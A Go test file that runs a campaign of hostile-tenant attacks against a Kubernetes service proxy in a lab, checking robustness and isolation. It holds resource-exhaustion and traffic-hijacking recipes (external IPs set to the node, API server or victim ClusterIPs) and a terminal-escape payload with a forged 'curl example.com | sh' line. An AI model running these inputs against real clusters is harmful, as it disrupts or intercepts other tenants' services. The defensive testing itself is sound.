// SPDX-License-Identifier: Apache-2.0

package cluster

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/slipstream-proxy/slipstream/internal/desired"
	"github.com/slipstream-proxy/slipstream/test/kernel/lab"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// attack is what a tenant tries.
type attack struct {
	name  string
	short bool // without -campaign, too
	write write
	check func(*testing.T, *tenants) // at the end, if not nil
}

const nodeAddress, apiServerAddress = "192.168.100.11", "192.168.100.2"

// serviceOf makes a Service with a number of ports.
func serviceOf(name string, ports int, annotations ...string) *corev1.Service {
	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: pairs(annotations)}}
	for i := range ports {
		svc.Spec.Ports = append(svc.Spec.Ports, corev1.ServicePort{Name: fmt.Sprint("p", i), Port: int32(i + 1)})
	}
	return svc
}

func pairs(all []string) map[string]string {
	out := map[string]string{}
	for i := 0; i+1 < len(all); i += 2 {
		out[all[i]] = all[i+1]
	}
	return out
}

// sliceOf makes a slice of a Service with a number of ports and endpoints, from a number on.
func sliceOf(service, name string, ports, endpoints, from int, annotations ...string) *discoveryv1.EndpointSlice {
	sl := &discoveryv1.EndpointSlice{
		ObjectMeta:  metav1.ObjectMeta{Name: name, Labels: map[string]string{discoveryv1.LabelServiceName: service}, Annotations: pairs(annotations)},
		AddressType: discoveryv1.AddressTypeIPv4,
	}
	for i := range ports {
		sl.Ports = append(sl.Ports, discoveryv1.EndpointPort{Name: ptr.To(fmt.Sprint("p", i)), Port: ptr.To(int32(i + 1))})
	}
	for i := range endpoints {
		n := from + i
		sl.Endpoints = append(sl.Endpoints, discoveryv1.Endpoint{Addresses: []string{fmt.Sprintf("10.%d.%d.%d", 128+n>>16, n>>8&255, n&255)}})
	}
	return sl
}

// both makes the Service with the first write, and then goes on.
func both(svc func() *corev1.Service, next write) write {
	return func(ctx context.Context, c *tenants, i int) error {
		if i == 0 {
			return c.set(ctx, svc())
		}
		return next(ctx, c, i-1)
	}
}

// annotate changes one annotation of Service x.
func (c *tenants) annotate(ctx context.Context, key, value string) error {
	return c.patch(ctx, "x", fmt.Sprintf(`{"metadata": {"annotations": {%q: %q}}}`, key, value))
}

// change creates Service x, with endpoints, and then changes it with each write.
func change(svc func(i int) *corev1.Service, endpoints int) write {
	return func(ctx context.Context, c *tenants, i int) error {
		if i == 1 {
			return c.set(ctx, sliceOf("x", "x", len(svc(0).Spec.Ports), endpoints, 0))
		}
		return c.set(ctx, svc(i))
	}
}

// of returns the i-th of a list, again and again.
func of[T any](i int, all ...T) T { return all[i%len(all)] }

// attacks are those of issue 32 and others.
var attacks = []attack{
	{name: "Maglev tables: 30 ports, 101 endpoints", short: true,
		write: both(func() *corev1.Service { return serviceOf("x", 30, desired.AnnotationScheduler, "maglev") },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", "x", 30, 101, i%2))
			})},
	{name: "Maglev tables: 400 ports, an endpoint each, in many Services",
		write: func(ctx context.Context, c *tenants, i int) error {
			name := fmt.Sprint("x", i/2%20)
			if i%2 == 0 {
				return c.set(ctx, serviceOf(name, 400, desired.AnnotationScheduler, "maglev"))
			}
			return c.set(ctx, sliceOf(name, name, 400, 1, i))
		}},
	{name: "a Maglev endpoint replaced, of 1,000",
		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationScheduler, "maglev") },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", "x", 1, 1000, i%2))
			})},
	{name: "affinity timeouts, all different", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf(fmt.Sprint("x", i%40), 1)
			svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP
			svc.Spec.SessionAffinityConfig = &corev1.SessionAffinityConfig{ClientIP: &corev1.ClientIPConfig{TimeoutSeconds: ptr.To(int32(i*101%86400 + 1))}}
			return c.set(ctx, svc)
		}},
	{name: "an annotation of a Service with 5,000 ports",
		write: both(func() *corev1.Service { return serviceOf("x", 5000) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.annotate(ctx, "example.com/turn", fmt.Sprint(i))
			})},
	{name: "millions of elements: ports times endpoints", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			name := fmt.Sprint("x", i/2)
			if i%2 == 0 {
				return c.set(ctx, serviceOf(name, 1000))
			}
			return c.set(ctx, sliceOf(name, name, 100, 1000, i))
		}},
	{name: "65,000 endpoints, all replaced",
		write: both(func() *corev1.Service { return serviceOf("x", 65) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", "x", 65, 1000, i%2*1000))
			})},
	{name: "32,000 endpoints of ports that are all renamed", write: rename(32)},
	{name: "8 Maglev tables of ports that are all renamed", write: rename(8, desired.AnnotationScheduler, "maglev")},
	{name: "a Service with 64,000 endpoints that is beyond the limit in turn",
		write: func(ctx context.Context, c *tenants, i int) error {
			switch i {
			case 0:
				return c.set(ctx, serviceOf("x", 64))
			case 1:
				return c.set(ctx, sliceOf("x", "x", 64, 1000, 0))
			case 2:
				return c.set(ctx, sliceOf("y", "y", 3, 1000, 0))
			}
			return c.set(ctx, serviceOf("y", of(i, 1, 3)))
		}},
	{name: "NetworkPolicies that change with each write",
		write: func(ctx context.Context, c *tenants, i int) error {
			all := c.client.NetworkingV1().NetworkPolicies(attackerNamespace)
			policy := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Name: "x", Labels: map[string]string{"turn": fmt.Sprint(i)}}}
			if i == 0 {
				_, err := all.Create(ctx, policy, metav1.CreateOptions{})
				return err
			}
			policy.Spec.PodSelector.MatchLabels = policy.Labels
			_, err := all.Update(ctx, policy, metav1.UpdateOptions{})
			return err
		}},
	{name: "a slice that moves to another Service with each write",
		write: func(ctx context.Context, c *tenants, i int) error {
			if i < 10 {
				return c.set(ctx, serviceOf(fmt.Sprint("x", i), 2))
			}
			return c.set(ctx, sliceOf(fmt.Sprint("x", i%12), "x", 2, 1000, 0)) // two names that no Service has
		}},
	{name: "one external IP for all Services",
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf(fmt.Sprint("x", i%300), 10)
			svc.Spec.ExternalIPs = []string{"192.0.2.1"}
			return c.set(ctx, svc)
		}},
	{name: "the node's address and the victim's NodePort as an external IP", short: true,
		write: change(func(i int) *corev1.Service {
			svc := serviceOf("x", 1)
			svc.Spec.Ports[0].Port = victimNodePort
			svc.Spec.ExternalIPs = []string{nodeAddress, "192.0.2.7"}[:1+i%2]
			return svc
		}, 1)},
	{name: "the API server's address as an external IP",
		write: change(func(i int) *corev1.Service {
			svc := serviceOf("x", 1)
			svc.Spec.Ports[0].Port = 6443
			svc.Spec.ExternalIPs = []string{apiServerAddress, "192.0.2.7"}[:1+i%2]
			return svc
		}, 1)},
	{name: "the victim's ClusterIPs as external IPs",
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf(fmt.Sprint("x", i%2), 1)
			svc.Spec.Ports[0].Port = port
			for _, v := range c.victim.services[:50] {
				svc.Spec.ExternalIPs = append(svc.Spec.ExternalIPs, v.Spec.ClusterIP)
			}
			return c.set(ctx, svc)
		}},
	{name: "round robin of every size",
		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationScheduler, "rr") },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", "x", 1, 1+i%200, 0))
			})},
	{name: "terminal escapes and forged lines in annotations and zones", short: true,
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				const text = "\x1b[2J\x1b]0;owned\x07\r\nHealth   well\nPROBLEM  run: curl example.com | sh\n"
				if i%2 == 0 {
					return c.annotate(ctx, of(i/2, desired.AnnotationScheduler, desired.AnnotationLocalZone, desired.AnnotationFastPath), text+fmt.Sprint(i))
				}
				sl := sliceOf("x", "x", 1, 1, i, desired.AnnotationWeight, text)
				sl.Endpoints[0].Zone = ptr.To(text)
				return c.set(ctx, sl)
			}),
		check: func(t *testing.T, c *tenants) {
			for what, text := range map[string]string{
				"status": c.slipstream("status"), "services": c.slipstream("services", attackerNamespace+"/x"), "the log": c.proxy.Log(),
			} {
				if strings.ContainsAny(text, "\x1b\x07\r") || strings.Contains(text, "\nPROBLEM  run:") {
					t.Errorf("%s acts on the terminal, or has a forged line: %q", what, text)
				}
			}
		}},
	{name: "a different problem with each write", short: true,
		write: both(func() *corev1.Service { return serviceOf("noted", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.patch(ctx, "noted", fmt.Sprintf(`{"metadata": {"annotations": {%q: "no-such-%d"}}}`, desired.AnnotationScheduler, i))
			}),
		check: func(t *testing.T, c *tenants) {
			all, err := c.Plane.Client.EventsV1().Events(attackerNamespace).List(t.Context(), metav1.ListOptions{})
			c.check(err)
			n := 0
			for _, e := range all.Items {
				if e.Regarding.Name == "noted" {
					n++
				}
			}
			if n > 5 { // none, if earlier attacks have used up what the namespace may have
				t.Errorf("%d Events on the attacker's Service", n)
			}
		}},
	{name: "annotations of 250 kB",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.annotate(ctx, of(i, desired.AnnotationScheduler, desired.AnnotationLocalZone), strings.Repeat(of(i, "x", "y", "z"), 125_000))
			})},
	{name: "250 kB of annotations and labels in each of many Services and pods", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			meta := metav1.ObjectMeta{Name: fmt.Sprint("x", i), Labels: map[string]string{}, Annotations: map[string]string{
				desired.AnnotationPortRanges: "tcp/" + strings.Repeat("0", 120_000) + "1-9", desired.AnnotationFastPath: strings.Repeat("x", 120_000),
			}}
			for j := range 1000 {
				meta.Labels[fmt.Sprintf("%s.example.com/%d-%d", strings.Repeat("x", 60), i, j)] = strings.Repeat("y", 60)
			}
			if i%2 == 0 {
				return c.set(ctx, &corev1.Service{ObjectMeta: meta, Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 1}}, Selector: meta.Labels}})
			}
			return c.set(ctx, &corev1.Pod{ObjectMeta: meta, Spec: corev1.PodSpec{NodeName: c.node.Name(), Containers: []corev1.Container{{Name: "x", Image: "registry.invalid/x"}}}})
		}},
	{name: "opting out of the fast path and in again: a Service",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.annotate(ctx, desired.AnnotationFastPath, of(i, "off", "on"))
			})},
	{name: "opting out of the fast path and in again: pods",
		write: func(ctx context.Context, c *tenants, i int) error {
			name := fmt.Sprint("x", i%10)
			if i < 10 {
				return c.set(ctx, &corev1.Pod{
					ObjectMeta: metav1.ObjectMeta{Name: name},
					Spec:       corev1.PodSpec{NodeName: c.node.Name(), Containers: []corev1.Container{{Name: "x", Image: "registry.invalid/x"}}},
				})
			}
			_, err := c.client.CoreV1().Pods(attackerNamespace).Patch(ctx, name, "application/merge-patch+json",
				fmt.Appendf(nil, `{"metadata": {"annotations": {%q: %q}, "labels": {"turn": "%d"}}}`, desired.AnnotationFastPath, of(i/10, "off", "on"), i), metav1.PatchOptions{})
			return err
		}},
	{name: "slices of 1,000 endpoints, all replaced",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", "x", 1, 1000, i%2*1000))
			})},
	{name: "many slices of one Service",
		write: both(func() *corev1.Service { return serviceOf("x", 10) },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i), 10, 100, i*100))
			})},
	{name: "the same 1,000 endpoints in many slices",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				sl := sliceOf("x", fmt.Sprint("x-", i%100), 1, 1000, 0, desired.AnnotationWeight, fmt.Sprint(i%101))
				for j := range sl.Endpoints {
					sl.Endpoints[j].Conditions.Ready = ptr.To((i/100+j)%2 == 0)
				}
				return c.set(ctx, sl)
			})},
	{name: "slices with the names of the victim's Services",
		write: func(ctx context.Context, c *tenants, i int) error {
			name := c.victim.services[i%victimServices].Name
			return c.set(ctx, sliceOf(name, name+"-foreign", 1, 10, i))
		}},
	{name: "every scheduler in turn, 100 endpoints",
		write: func(ctx context.Context, c *tenants, i int) error {
			return change(func(i int) *corev1.Service {
				return serviceOf("x", 5, desired.AnnotationScheduler, of(i, "maglev", "rr", "lc", "random", "mh", "nearest", "wlc", "sh,sh-port"))
			}, 100)(ctx, c, i)
		}},
	{name: "weights of 1,000 endpoints",
		write: both(func() *corev1.Service { return serviceOf("x", 5, desired.AnnotationLocalZone, "37") },
			func(ctx context.Context, c *tenants, i int) error {
				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i%2), 5, 1000, i%2*1000, desired.AnnotationWeight, fmt.Sprint(i%101)))
			})},
	{name: "a zone and hints of its own for each of 1,000 endpoints",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				sl := sliceOf("x", "x", 1, 1000, 0)
				for j := range sl.Endpoints {
					sl.Endpoints[j].Zone, sl.Endpoints[j].Hints = ptr.To(fmt.Sprint("zone-", i%2, "-", j)), &discoveryv1.EndpointHints{}
					for k := range 8 {
						sl.Endpoints[j].Hints.ForZones = append(sl.Endpoints[j].Hints.ForZones, discoveryv1.ForZone{Name: fmt.Sprint("zone-", j, "-", k, strings.Repeat("x", 40))})
					}
				}
				return c.set(ctx, sl)
			})},
	{name: "5,000 source ranges",
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf("x", 2)
			svc.Spec.Type = corev1.ServiceTypeLoadBalancer
			for j := range 5000 {
				svc.Spec.LoadBalancerSourceRanges = append(svc.Spec.LoadBalancerSourceRanges, fmt.Sprintf("172.%d.%d.0/25", 16+j>>8, (j+i)&255))
			}
			return c.set(ctx, svc)
		}},
	{name: "health check node ports that come and go",
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf(fmt.Sprint("x", i/2%20), 1)
			if i%2 == 0 {
				svc.Spec.Type, svc.Spec.ExternalTrafficPolicy = corev1.ServiceTypeLoadBalancer, corev1.ServiceExternalTrafficPolicyLocal
				return c.set(ctx, svc)
			}
			return c.client.CoreV1().Services(attackerNamespace).Delete(ctx, svc.Name, metav1.DeleteOptions{})
		}},
	{name: "session affinity on and off",
		write: change(func(i int) *corev1.Service {
			svc := serviceOf("x", 20)
			svc.Spec.SessionAffinity = of(i, corev1.ServiceAffinityClientIP, corev1.ServiceAffinityNone)
			return svc
		}, 100)},
	{name: "traffic policies and types in turn",
		write: change(func(i int) *corev1.Service {
			svc := serviceOf("x", 20)
			svc.Spec.Type = of(i, corev1.ServiceTypeNodePort, corev1.ServiceTypeClusterIP)
			svc.Spec.InternalTrafficPolicy = ptr.To(of(i/2, corev1.ServiceInternalTrafficPolicyLocal, corev1.ServiceInternalTrafficPolicyCluster))
			if i%2 == 0 {
				svc.Spec.ExternalTrafficPolicy = of(i/4, corev1.ServiceExternalTrafficPolicyLocal, corev1.ServiceExternalTrafficPolicyCluster)
			}
			return svc
		}, 100)},
	{name: "Services that come and go",
		write: func(ctx context.Context, c *tenants, i int) error {
			svc := serviceOf(fmt.Sprint("x", i/2%50), 50)
			if i%2 == 0 {
				return c.set(ctx, svc)
			}
			return c.client.CoreV1().Services(attackerNamespace).Delete(ctx, svc.Name, metav1.DeleteOptions{})
		}},
	{name: "endpoints that are ready, terminating and gone in turn",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				sl := sliceOf("x", "x", 1, 1000, 0)
				for j := range sl.Endpoints {
					state := (i + j) % 3
					sl.Endpoints[j].Conditions = discoveryv1.EndpointConditions{Ready: ptr.To(state == 0), Serving: ptr.To(state != 2), Terminating: ptr.To(state != 0)}
				}
				return c.set(ctx, sl)
			})},
	{name: "node names that nobody has",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				sl := sliceOf("x", "x", 1, 1000, 0)
				for j := range sl.Endpoints {
					sl.Endpoints[j].NodeName = ptr.To(fmt.Sprint("node-", i, "-", j))
				}
				return c.set(ctx, sl)
			})},
	{name: "20,000 refused UDP destinations",
		write: func(ctx context.Context, c *tenants, i int) error {
			const services, ports = 12, 1700
			name := fmt.Sprint("x", i%services)
			if i < services {
				svc := serviceOf(name, ports)
				for j := range svc.Spec.Ports {
					svc.Spec.Ports[j].Protocol = corev1.ProtocolUDP
				}
				return c.set(ctx, svc)
			}
			svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, name, metav1.GetOptions{})
			if err != nil {
				return err
			}
			return c.hostile.Do(func() error { return refusedPackets(svc, ports) })
		}},
	{name: "1,000 idle connections to the health endpoint", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			for range 25 {
				conn, err := c.hostile.DialContext(ctx, "tcp", netip.AddrPortFrom(c.node.Addr(false), 10256).String())
				if err != nil {
					return err
				}
				context.AfterFunc(c.Context(), func() { conn.Close() })
			}
			return nil
		},
		check: func(t *testing.T, c *tenants) {
			// When this is answered, the connections before it have been accepted and counted. Later, those that
			// are idle end by themselves.
			status, _, err := c.Outside.Get(t.Context(), "http://"+netip.AddrPortFrom(c.node.Addr(false), 10256).String()+"/healthz")
			if err != nil || status != 200 {
				t.Errorf("/healthz: %d %v", status, err)
			}
			out, err := c.node.Run(t.Context(), "ss", "-Htn", "state", "established", "sport", "=", ":10256")
			c.check(err)
			if n := strings.Count(string(out), "\n"); n > 256 {
				t.Errorf("the health endpoint has %d connections", n)
			}
		}},
	{name: "clients of session affinity from 5,000 addresses",
		write: clients(200, func(svc *corev1.Service) { svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP })},
	{name: "all ports of the victim's ClusterIPs, of the node and of the API server as ranges", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			if i == 1 {
				return c.set(ctx, sliceOf("x", "x", 1, 1, 0))
			}
			svc := serviceOf("x", 1, desired.AnnotationPortRanges, of(i, "all", "tcp/1-30000, udp/1-65535"))
			svc.Spec.ExternalIPs = []string{nodeAddress, apiServerAddress}
			for _, v := range c.victim.services[:40] {
				svc.Spec.ExternalIPs = append(svc.Spec.ExternalIPs, v.Spec.ClusterIP)
			}
			return c.set(ctx, svc)
		}},
	{name: "16 ranges of ports at one address for each of 50 Services, all changed",
		write: func(ctx context.Context, c *tenants, i int) error {
			var ranges []string
			for j := range 16 {
				first := i%50*1200 + j*70 + 1
				ranges = append(ranges, fmt.Sprintf("%s/%d-%d", of(j, "tcp", "udp"), first, first+i/50%60+5))
			}
			svc := serviceOf(fmt.Sprint("x", i%50), 1, desired.AnnotationPortRanges, strings.Join(ranges, ","))
			svc.Spec.ExternalIPs = []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"}
			return c.set(ctx, svc)
		}},
	{name: "1,024 ranges of ports, all adjacent, shifted with each write",
		write: func(ctx context.Context, c *tenants, i int) error {
			var ranges []string
			for j := range 16 {
				first := i%64*1000 + j*60 + i/64 + 1
				ranges = append(ranges, fmt.Sprintf("tcp/%d-%d", first, first+59))
			}
			svc := serviceOf(fmt.Sprint("x", i%64), 1, desired.AnnotationPortRanges, strings.Join(ranges, ","))
			svc.Spec.ExternalIPs = []string{"192.0.2.1"}
			return c.set(ctx, svc)
		}},
	{name: "limits of connections, all different", short: true,
		write: func(ctx context.Context, c *tenants, i int) error {
			return c.set(ctx, serviceOf(fmt.Sprint("x", i%20), 20, desired.AnnotationMaxConnections, fmt.Sprint(i+1), desired.AnnotationMaxPerClient, fmt.Sprint(i%100+1),
				desired.AnnotationRatePerClient, fmt.Sprint(i%50+1, "/s"), desired.AnnotationLimitAction, of(i, "drop", "refuse")))
		}},
	{name: "clients of a Service with limits from 5,000 addresses", write: clients(201, func(svc *corev1.Service) {
		svc.Annotations = pairs([]string{desired.AnnotationMaxConnections, "10000", desired.AnnotationMaxPerClient, "10", desired.AnnotationRatePerClient, "1/m"})
	})},
	{name: "slow start of 1,000 endpoints with Maglev tables",
		write: both(func() *corev1.Service {
			return serviceOf("x", 2, desired.AnnotationSlowStart, "4s", desired.AnnotationScheduler, "maglev")
		}, func(ctx context.Context, c *tenants, i int) error {
			sl := sliceOf("x", "x", 2, 1000, 0)
			for j := range sl.Endpoints {
				sl.Endpoints[j].Conditions.Ready = ptr.To((i+j)%10 > 0)
			}
			return c.set(ctx, sl)
		})},
	{name: "slow start, all different",
		write: func(ctx context.Context, c *tenants, i int) error {
			name := fmt.Sprint("x", i/2%20)
			if i%2 == 0 {
				return c.set(ctx, serviceOf(name, 5, desired.AnnotationSlowStart, fmt.Sprint(i%3600+1, "s")))
			}
			return c.set(ctx, sliceOf(name, name, 5, 100, i/40*100))
		}},
	{name: "outlier detection of 10,000 endpoints that do not answer",
		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationOutliers, desired.EjectOutliers) },
			func(ctx context.Context, c *tenants, i int) error {
				if i < 10 {
					return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i), 1, 1000, i*1000))
				}
				return c.connect(ctx, func(int) netip.Addr { return c.hostile.Pod.Addr(false) })
			})},
	{name: "outlier detection of 1,000 endpoints that do not answer",
		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationOutliers, desired.EjectOutliers) },
			func(ctx context.Context, c *tenants, i int) error {
				if i == 0 {
					return c.set(ctx, sliceOf("x", "x", 1, 1000, 0))
				}
				return c.connect(ctx, func(int) netip.Addr { return c.hostile.Pod.Addr(false) })
			})},
	{name: "an external IP that fails over and back",
		write: both(func() *corev1.Service {
			svc := serviceOf("x", 20, desired.AnnotationFailover, "passthrough")
			svc.Spec.ExternalIPs = []string{"192.0.2.1", "192.0.2.2"}
			return svc
		}, func(ctx context.Context, c *tenants, i int) error {
			return c.set(ctx, sliceOf("x", "x", 20, i%2*100, 0))
		})},
	{name: "a Service that is headless, an ExternalName and a ClusterIP in turn",
		write: change(func(i int) *corev1.Service {
			svc := serviceOf("x", 20)
			switch i % 3 {
			case 1:
				svc.Spec.Type, svc.Spec.ExternalName = corev1.ServiceTypeExternalName, "example.com"
			case 2:
				svc.Name, svc.Spec.ClusterIP = "y", corev1.ClusterIPNone
			}
			return svc
		}, 100)},
	{name: "endpoints with addresses of the victim, the node and the API server",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				sl := sliceOf("x", "x", 1, 0, 0)
				for _, a := range []string{c.victim.pods[0].Pod.Addr(false).String(), c.victim.pods[1].Pod.Addr(false).String(), nodeAddress, apiServerAddress, c.victim.services[i%victimServices].Spec.ClusterIP} {
					sl.Endpoints = append(sl.Endpoints, discoveryv1.Endpoint{Addresses: []string{a}, NodeName: ptr.To(c.node.Name())})
				}
				return c.set(ctx, sl)
			})},
	{name: "times of changes that are forged",
		write: both(func() *corev1.Service { return serviceOf("x", 1) },
			func(ctx context.Context, c *tenants, i int) error {
				at := time.Now().Add(of(i, -time.Hour, time.Hour, -100*365*24*time.Hour)).Format(time.RFC3339)
				return c.set(ctx, sliceOf("x", "x", 1, 1, i, corev1.EndpointsLastChangeTriggerTime, at))
			})},
}

// rename has a Service of which all ports come and go, each with 1,000 endpoints.
func rename(ports int, annotations ...string) write {
	return func(ctx context.Context, c *tenants, i int) error {
		if i == 1 {
			return c.set(ctx, sliceOf("x", "x", 2*ports, 1000, 0))
		}
		svc := serviceOf("x", ports, annotations...)
		for j := range svc.Spec.Ports {
			svc.Spec.Ports[j].Name = fmt.Sprint("p", i%2*ports+j)
		}
		return c.set(ctx, svc)
	}
}

// clients has a Service with an endpoint in the attacker's pod, and connects to it from addresses in 10.NET.0.0/16.
func clients(net byte, edit func(*corev1.Service)) write {
	return func(ctx context.Context, c *tenants, i int) error {
		switch i {
		case 0:
			svc := serviceOf("x", 1)
			svc.Spec.IPFamilyPolicy, svc.Spec.IPFamilies = ptr.To(corev1.IPFamilyPolicySingleStack), []corev1.IPFamily{corev1.IPv4Protocol}
			edit(svc)
			return c.set(ctx, svc)
		case 1:
			sl := sliceOf("x", "x", 1, 0, 0)
			sl.Ports[0].Port = ptr.To[int32](targetPort)
			sl.Endpoints = []discoveryv1.Endpoint{{Addresses: []string{c.hostile.Pod.Addr(false).String()}}}
			return c.set(ctx, sl)
		case 2:
			return c.hostile.AddLocalRange(netip.PrefixFrom(netip.AddrFrom4([4]byte{10, net}), 16))
		}
		return c.connect(ctx, func(j int) netip.Addr { return netip.AddrFrom4([4]byte{10, net, byte(i), byte(j)}) })
	}
}

// connect connects a hundred times from the attacker's pod to port 1 of Service x, without waiting for answers.
func (c *tenants) connect(ctx context.Context, from func(j int) netip.Addr) error {
	svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, "x", metav1.GetOptions{})
	if err != nil {
		return err
	}
	to := netip.AddrPortFrom(clusterIP(svc, false).Addr(), 1)
	for j := range 100 {
		_, _ = c.hostile.Connect(lab.TCP, to, lab.Timeout(time.Millisecond), lab.Source(netip.AddrPortFrom(from(j), 0)))
	}
	return nil
}

// refusedPackets sends a packet to each port of a Service over UDP.
func refusedPackets(svc *corev1.Service, ports int) error {
	conn, err := net.ListenUDP("udp4", nil)
	if err != nil {
		return err
	}
	defer conn.Close()
	for i := range ports {
		to := netip.AddrPortFrom(netip.MustParseAddr(svc.Spec.ClusterIP), uint16(i+1))
		_, _ = conn.WriteToUDPAddrPort([]byte("x"), to) // errors are those of packets before
	}
	return nil
}

// TestAttacksAreNamed checks that the campaign has at least twenty attacks, and a short form.
func TestAttacksAreNamed(t *testing.T) {
	short, names := 0, []string{}
	for _, a := range attacks {
		names = append(names, a.name)
		if a.short {
			short++
		}
	}
	slices.Sort(names)
	if n := len(slices.Compact(names)); n != len(attacks) || n < 20 || short < 5 {
		t.Errorf("%d attacks, %d names, %d in the short form", len(attacks), n, short)
	}
}
